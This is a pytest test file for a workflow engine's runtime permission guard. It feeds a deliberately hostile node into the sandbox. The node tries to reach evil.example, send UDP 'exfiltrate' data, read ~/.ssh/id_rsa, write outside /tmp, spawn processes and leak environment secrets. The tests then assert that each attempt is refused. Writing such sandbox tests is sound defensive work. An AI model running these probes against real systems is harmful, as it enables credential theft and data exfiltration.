"""Hostile nodes through the real engine (`python -m tentacular.engine`): each one is refused,
the run's error names the resource and the contract change, and the log says the same (D4)."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.guard.support import EngineProcess, base_env, http_server, outside_tmp_dir, write_workflow

HOSTILE_NODE = """
import asyncio, http.client, os, socket, subprocess, urllib.request

import httpx


async def run(ctx, input):
    case = input["case"]
    port = ctx.config["declared_port"]
    if case == "urllib":
        url = "https://evil.example/"
        return await asyncio.to_thread(lambda: urllib.request.urlopen(url, timeout=5).read())
    if case == "httpx":
        async with httpx.AsyncClient() as client:
            return (await client.get("https://evil.example/")).text
    if case == "http.client":
        connection = http.client.HTTPSConnection("evil.example", timeout=5)
        connection.request("GET", "/")
        return connection.getresponse().status
    if case == "raw socket":
        return socket.create_connection(("evil.example", 443), timeout=5).getpeername()
    if case == "declared host, other port":
        async with httpx.AsyncClient() as client:
            return (await client.get(f"http://127.0.0.1:{port + 1}/")).text
    if case == "declared name, other port":
        return socket.getaddrinfo("api.declared.test", 8443)
    if case == "raw ip":
        return socket.create_connection(("192.0.2.10", 443), timeout=5).getpeername()
    if case == "udp":
        return socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"exfiltrate", ("203.0.113.7", 53))
    if case == "home key":
        return open(os.path.expanduser("~/.ssh/id_rsa")).read()
    if case == "write outside tmp":
        with open(os.path.join(os.environ["HOME"], "pwned.txt"), "w") as handle:
            handle.write("pwned")
        return "written"
    if case == "subprocess.run":
        return subprocess.run(["id"], capture_output=True).returncode
    if case == "os.system":
        return os.system("id")
    if case == "os.fork":
        return os.fork()
    if case == "os.posix_spawn":
        return os.posix_spawn("/bin/true", ["true"], {})
    if case == "ctypes.CDLL":
        import ctypes

        return ctypes.CDLL("libc.so.6").getpid()
    if case == "environment":
        return {"leak": os.environ.get("TNTC_TEST_LEAK"), "kept": os.environ.get("TENTACULAR_VISIBLE")}
    if case == "declared":
        response = await ctx.dependency("local").fetch("/ok")
        return response.json()
    raise ValueError(case)
"""

REFUSALS: dict[str, str] = {
    "urllib": "connection to evil.example:443 refused: not declared in the contract — add a dependency "
    "{protocol: https, host: evil.example} to contract.dependencies",
    "httpx": "connection to evil.example:443 refused: not declared in the contract — add a dependency "
    "{protocol: https, host: evil.example} to contract.dependencies",
    "http.client": "connection to evil.example:443 refused: not declared in the contract",
    "raw socket": "connection to evil.example:443 refused: not declared in the contract",
    "declared host, other port": "connection to 127.0.0.1:{port+1} refused: 127.0.0.1 is declared for "
    "port(s) {port} only — add a dependency {protocol: https, host: 127.0.0.1, port: {port+1}} to "
    "contract.dependencies",
    "declared name, other port": 'api.declared.test is declared ("api") for port(s) 443/TCP only — add a '
    "dependency {protocol: https, host: api.declared.test, port: 8443} to contract.dependencies",
    "raw ip": "connection to 192.0.2.10:443 refused: address not resolved from a declared host",
    "udp": "UDP datagram to 203.0.113.7:53 refused: not declared in the contract — add {toCIDR: "
    '203.0.113.7/32, ports: ["53/UDP"]} to contract.networkPolicy.additionalEgress',
    "home key": "/.ssh/id_rsa refused: outside the paths nodes may read",
    "write outside tmp": "/pwned.txt refused: nodes may write only under /tmp",
    "subprocess.run": "starting a process (subprocess.Popen: ['id']) refused: nodes may not run programs",
    "os.system": "starting a process (os.system: 'id') refused",
    "os.fork": "starting a process (os.fork) refused",
    "os.posix_spawn": "starting a process (os.posix_spawn: ['true']) refused",
    "ctypes.CDLL": "importing ctypes refused: nodes may not load or call native code through FFI",
}


@pytest.fixture(scope="module")
def home() -> Path:
    directory = outside_tmp_dir()
    (directory / ".ssh").mkdir()
    (directory / ".ssh" / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n")
    return directory


@pytest.fixture(scope="module")
def engine(tmp_path_factory: pytest.TempPathFactory, home: Path) -> Iterator[tuple[EngineProcess, int]]:
    with http_server() as port:
        workflow = write_workflow(
            tmp_path_factory.mktemp("hostile"),
            {"probe": HOSTILE_NODE},
            contract={
                "version": "1",
                "dependencies": {
                    "local": {"protocol": "http", "host": "127.0.0.1", "port": port},
                    "api": {"protocol": "https", "host": "api.declared.test"},
                },
            },
        )
        spec = (
            (workflow / "workflow.yaml")
            .read_text()
            .replace("retries: 0", f"retries: 0\n  declared_port: {port}")
        )
        (workflow / "workflow.yaml").write_text(spec)
        env = base_env(HOME=str(home), TNTC_TEST_LEAK="do-not-leak", TENTACULAR_VISIBLE="yes")
        process = EngineProcess(workflow, env=env)
        try:
            yield process, port
        finally:
            process.stop()


def test_a_declared_dependency_works_beside_the_hostile_cases(engine: tuple[EngineProcess, int]) -> None:
    process, _port = engine
    result = process.run({"case": "declared"})
    assert result["success"], result
    assert result["outputs"]["probe"]["path"] == "/ok"


@pytest.mark.parametrize("case", sorted(REFUSALS))
def test_hostile_node_is_refused_with_a_contract_hint(engine: tuple[EngineProcess, int], case: str) -> None:
    process, port = engine
    expected = REFUSALS[case].replace("{port}", str(port)).replace("{port+1}", str(port + 1))
    result = process.run({"case": case})
    assert not result["success"]
    error = result["errors"]["probe"]
    assert expected in error, error
    logged = [r["msg"] for r in result["_log"] if r.get("level") == "error"]
    assert any(expected in message and message in error for message in logged), (error, logged)


def test_refused_side_effects_did_not_happen(engine: tuple[EngineProcess, int], home: Path) -> None:
    process, _port = engine
    process.run({"case": "write outside tmp"})
    process.run({"case": "os.fork"})
    assert not (home / "pwned.txt").exists()
    assert process.client.get("/health").status_code == 200  # the engine itself is unharmed


def test_environment_outside_the_allow_list_is_absent(engine: tuple[EngineProcess, int]) -> None:
    process, _port = engine
    result = process.run({"case": "environment"})
    assert result["outputs"]["probe"] == {"leak": None, "kept": "yes"}


def test_the_engine_logs_its_guard_at_start(engine: tuple[EngineProcess, int]) -> None:
    process, _port = engine
    messages = [r.get("msg", "") for r in process.records()]
    assert any(
        "runtime permission guard installed (network: as declared in the contract)" in m for m in messages
    )
    assert not any("legacy mode" in m for m in messages)


def assert_never_leaked(records: list[dict[str, Any]]) -> None:
    assert not any("do-not-leak" in str(record) for record in records)


def test_no_secret_environment_value_reaches_the_log(engine: tuple[EngineProcess, int]) -> None:
    process, _port = engine
    assert_never_leaked(process.records())
